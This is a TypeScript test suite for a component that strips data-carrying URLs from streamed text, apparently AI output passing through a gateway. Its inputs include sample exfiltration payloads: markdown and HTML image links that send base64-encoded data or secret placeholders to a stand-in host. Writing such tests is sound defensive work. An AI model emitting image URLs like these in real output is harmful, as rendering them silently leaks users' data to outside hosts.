import assert from 'node:assert/strict';
import { createVault } from '../../src/core/placeholders';
import { createNeutraliser } from '../../src/gateway/neutralise';

const base64 = Buffer.from('the plan is to sell it in May').toString('base64url');
const gone = '#held-back-by-lockside';

describe('neutralising what carries data away', () => {
  const cases: [what: string, text: string, expected: string][] = [
    ['an image', `![a](https://x.example/i.png?d=${base64})`, `![a](${gone})`],
    ['an image in angles', `![a](<https://x.example/i.png?d=${base64}>)`, `![a](<${gone}>)`],
    [
      'an image by reference',
      `![a][r]\n\n[r]: https://x.example/i?q=some+more+words 'title'\n`,
      `![a][r]\n\n[r]: ${gone} 'title'\n`,
    ],
    ['an HTML image', `<img width=1 src="https://x.example/${base64}${base64}">`, `<img width=1 src="${gone}">`],
    ['a fragment', `![](https://x.example/i#${base64})`, `![](${gone})`],
    ['a placeholder in a link', '[see](https://x.example/?k=SECRET_X_1)', `[see](${gone})`],
    ['a placeholder in an image', '![](https://x.example/SECRET_X_1.png)', `![](${gone})`],
    [
      'a placeholder of the very host',
      '[see](https://own.example/?k=SECRET_X_2)',
      '[see](https://own.example/?k=SECRET_X_2)',
    ],
    ['a plain image', '![a](https://x.example/shots/one.png?size=200&v=1.2)', ''],
    ['a badge', '![b](https://img.shields.io/badge/a-b?label=Some%20long%20label%20here)', ''],
    ['a long link', `[docs](https://x.example/search?q=${base64})`, ''],
    ['an address in code', `fetch("https://x.example/?d=${base64}")`, ''],
    ['a commit', `![a](https://x.example/${'0123456789abcdef'.repeat(3)}/a.png)`, ''],
    ['no address', 'He ran https and http:// and the end h', ''],
  ];
  for (const [what, text, expected] of cases) {
    it(`${expected === '' ? 'leaves' : 'treats'} ${what}, however it is cut`, () => {
      for (const length of [text.length, 1, 2, 3, 7, 11]) {
        const { result, told } = inPieces(text, length);
        assert.equal(result, expected || text);
        assert.equal(told > 0, expected.includes(gone));
      }
    });
  }
});

function inPieces(text: string, length: number): { result: string; told: number } {
  const origins = new Set(['host:own.example']);
  const entry = { detector: 'secret/x', origins };
  const vault = createVault([
    { ...entry, placeholder: 'SECRET_X_1', value: 'one', origins: new Set() },
    { ...entry, placeholder: 'SECRET_X_2', value: 'two' },
  ]);
  let told = 0;
  const neutraliser = createNeutraliser(vault, () => told++);
  let result = '';
  for (let at = 0; at < text.length; at += length) result += neutraliser.push(text.slice(at, at + length));
  return { result: result + neutraliser.end(), told };
}
